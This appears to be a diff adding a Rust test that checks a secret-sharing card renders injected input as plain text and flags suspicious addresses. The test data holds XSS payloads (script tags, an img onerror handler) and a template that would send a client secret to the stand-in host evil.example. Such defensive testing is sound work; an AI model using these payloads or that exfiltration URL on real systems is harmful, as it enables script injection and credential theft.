@@ -303,6 +303,28 @@ fn script_stays_text() {
     person.does(CardAction::Arrived(Secret::new(changed("Client secret", script))));
     person.does(CardAction::Taken);
     assert_eq!(person.card_field("value-2-label").value, script);
+
+    // As in the browser test, where it is looked at what the page makes of it.
+    let mut person = Person::at_card();
+    let sentence = "<a href='https://evil.example/'>**here**</a> <script>alert(3)</script>";
+    let mut text = sound().packed();
+    for (from, to) in [
+        ("\"name\":\"Tines\"", "\"name\":\"<script>alert(1)</script>\""),
+        ("\"label\":\"Client secret\"", "\"label\":\"<img src=x onerror=alert(2)>\""),
+        ("The app must be active in Zoom before you connect.", sentence),
+        ("{account_id}", "evil.example/?s={client_secret}"),
+        ("{client_id}", "https://evil.example/{client_id}"),
+    ] {
+        assert!(text.contains(from), "{from}");
+        text = text.replacen(from, to, 1);
+    }
+    person.does(CardAction::Arrived(Secret::new(link_of(text.as_bytes()))));
+    let offer = view(&person.0).offer.unwrap();
+    assert_eq!(offer.joined, ["evil.example/?s={client_secret}"]);
+    assert!(offer.addresses.contains(&sentence.to_owned()), "{offer:?}");
+    person.does(CardAction::Taken);
+    assert!(view(&person.0).is_current, "{:?}", person.wrong());
+    assert!(person.0.guide().is_some());
 }
 
 #[test]
